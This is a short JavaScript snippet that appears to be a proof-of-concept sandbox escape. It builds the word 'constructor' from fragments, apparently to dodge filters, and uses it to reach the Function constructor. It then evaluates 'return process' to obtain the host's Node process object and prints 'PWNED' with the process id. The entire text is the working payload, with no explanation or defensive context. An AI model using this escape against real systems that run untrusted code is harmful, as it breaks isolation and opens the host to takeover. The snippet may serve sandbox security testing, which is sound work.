const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
console.log('PWNED', [t].find(() => true).go(fn)('return process')().pid);
